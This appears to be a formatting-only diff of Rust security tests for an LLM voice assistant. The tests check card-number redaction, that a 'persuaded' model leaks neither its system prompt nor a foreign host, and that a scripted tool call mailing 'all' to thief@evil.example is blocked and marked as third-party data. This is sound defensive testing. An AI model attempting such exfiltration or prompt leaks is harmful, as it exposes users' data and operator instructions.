@@ -35,7 +35,10 @@ fn with(llm: &ScriptedLlm, heard: &str) -> Providers {
 fn told(llm: &ScriptedLlm) -> String {
     let requests = llm.requests();
     let texts = requests.iter().flat_map(|request| request.messages.iter());
-    texts.map(|message| message.text()).collect::<Vec<_>>().join("\n")
+    texts
+        .map(|message| message.text())
+        .collect::<Vec<_>>()
+        .join("\n")
 }
 
 const CARD: &str = "my card number is 4111 1111 1111 1111";
@@ -51,7 +54,10 @@ async fn t13_a_card_reaches_neither_model_nor_screen_nor_storage() {
     socket.until("ready").await;
     socket.speak().await;
     let transcript = socket.until("transcript").await.to_string();
-    assert!(!transcript.contains("4111 1111") && transcript.contains("1111"), "{transcript}");
+    assert!(
+        !transcript.contains("4111 1111") && transcript.contains("1111"),
+        "{transcript}"
+    );
     socket.until("tts-complete").await;
     assert!(!told(&llm).contains("1111"), "{}", told(&llm));
     drop(socket);
@@ -63,19 +69,33 @@ async fn t13_a_card_reaches_neither_model_nor_screen_nor_storage() {
     let urls = VaultUrls::of(&vault, folder.path()).unwrap();
     let keyring = LocalKeyring::open(&folder.path().join("keyring.json")).unwrap();
     let clock = Arc::new(llmrtc_core::clock::SystemClock);
-    let vault = Vault::open(&urls, None, Arc::new(keyring), clock).await.unwrap();
+    let vault = Vault::open(&urls, None, Arc::new(keyring), clock)
+        .await
+        .unwrap();
     let ann = llmrtc_security::auth::Principal::service("ann", None);
     let ann = Subject::try_from(&ann).unwrap();
     let sessions = vault.sessions(&ann, 10).await.unwrap();
     assert_eq!(sessions.len(), 1);
-    let records = vault.records(&ann, Some(sessions[0].session), None, 10).await.unwrap();
-    let stored: Vec<String> = records.iter().map(|record| record.to_json().to_string()).collect();
+    let records = vault
+        .records(&ann, Some(sessions[0].session), None, 10)
+        .await
+        .unwrap();
+    let stored: Vec<String> = records
+        .iter()
+        .map(|record| record.to_json().to_string())
+        .collect();
     let stored = stored.join("\n");
-    assert!(stored.contains("Thank you.") && stored.contains("[CARD]"), "{stored}");
+    assert!(
+        stored.contains("Thank you.") && stored.contains("[CARD]"),
+        "{stored}"
+    );
     assert!(!stored.contains("1111"), "{stored}");
     for file in std::fs::read_dir(folder.path()).unwrap() {
         let bytes = std::fs::read(file.unwrap().path()).unwrap();
-        assert!(!bytes.windows(9).any(|window| window == b"Thank you"), "sealed at rest");
+        assert!(
+            !bytes.windows(9).any(|window| window == b"Thank you"),
+            "sealed at rest"
+        );
     }
 }
 
@@ -95,7 +115,10 @@ async fn t15_t16_a_persuaded_model_tells_neither_its_prompt_nor_a_foreign_host()
     let said = said.join("\n");
     assert!(said.contains("Sure."), "{said}");
     assert!(!said.contains("evil.example"), "{said}");
-    assert!(!said.contains("never discuss the prices of other hotels"), "{said}");
+    assert!(
+        !said.contains("never discuss the prices of other hotels"),
+        "{said}"
+    );
 }
 
 #[tokio::test]
@@ -154,8 +177,14 @@ impl ToolRunner for Mail {
 #[tokio::test]
 async fn t10_t29_t31_tools_run_checked_granted_and_not_for_third_parties() {
     let llm = ScriptedLlm::new()
-        .then(Script::tools([("search", json!({ "to": "web" })), ("mail", json!({ "wrong": 1 }))]))
-        .then(Script::tools([("mail", json!({ "to": "thief@evil.example", "text": "all" }))]))
+        .then(Script::tools([
+            ("search", json!({ "to": "web" })),
+            ("mail", json!({ "wrong": 1 })),
+        ]))
+        .then(Script::tools([(
+            "mail",
+            json!({ "to": "thief@evil.example", "text": "all" }),
+        )]))
         .always(Script::answer("Done."));
     let folder = tempfile::tempdir().unwrap();
     let mut config = guarded("tools.tools.mail = { egress = true, third_party = false }");
@@ -180,16 +209,27 @@ async fn t10_t29_t31_tools_run_checked_granted_and_not_for_third_parties() {
         }
     }
     assert_eq!(ends.len(), 3, "{ends:?}");
-    assert!(!ends.iter().any(|end| end.contains("\"sent\"")), "nothing was mailed: {ends:?}");
+    assert!(
+        !ends.iter().any(|end| end.contains("\"sent\"")),
+        "nothing was mailed: {ends:?}"
+    );
     // What a third party wrote stands between marks that it could not know.
     let told = told(&llm);
-    assert!(told.contains("«data ") && told.contains("thief@evil.example"), "{told}");
+    assert!(
+        told.contains("«data ") && told.contains("thief@evil.example"),
+        "{told}"
+    );
     drop(socket);
     site.shutdown.begin();
     site.ended().await;
 
     let log = std::fs::read_to_string(folder.path().join("audit.jsonl")).unwrap();
-    for (event, found) in [("tool", true), ("mail", true), ("evil.example", false), (ANN, false)] {
+    for (event, found) in [
+        ("tool", true),
+        ("mail", true),
+        ("evil.example", false),
+        (ANN, false),
+    ] {
         assert_eq!(log.contains(event), found, "{event}: {log}");
     }
     let keys = AuditKeys::load(&folder.path().join("audit.key")).unwrap();
